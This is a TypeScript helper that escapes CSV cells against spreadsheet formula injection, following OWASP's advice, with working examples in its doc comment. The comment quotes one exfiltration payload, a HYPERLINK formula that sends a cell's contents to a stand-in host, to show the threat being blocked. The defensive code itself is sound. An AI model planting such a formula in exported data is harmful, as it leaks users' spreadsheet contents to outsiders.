/**
 * One CSV cell, safe to open in a spreadsheet. A cell that begins with `=`, `+`, `-`, `@`, a tab or
 * a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
 * (`=HYPERLINK("http://x/?"&A1)` in a title leaks the sheet), so it gets a leading single quote as
 * OWASP's "CSV Injection" page advises; then the cell is quoted when it holds a quote, comma or
 * line end. Example: `=1+2` → `'=1+2`; `-5 dead, police say` → `"'-5 dead, police say"`.
 */
export function csvCell(v: unknown): string {
  let s = v === null || v === undefined ? '' : String(v);
  if (/^[=+\-@\t\r]/.test(s)) s = `'${s}`;
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}
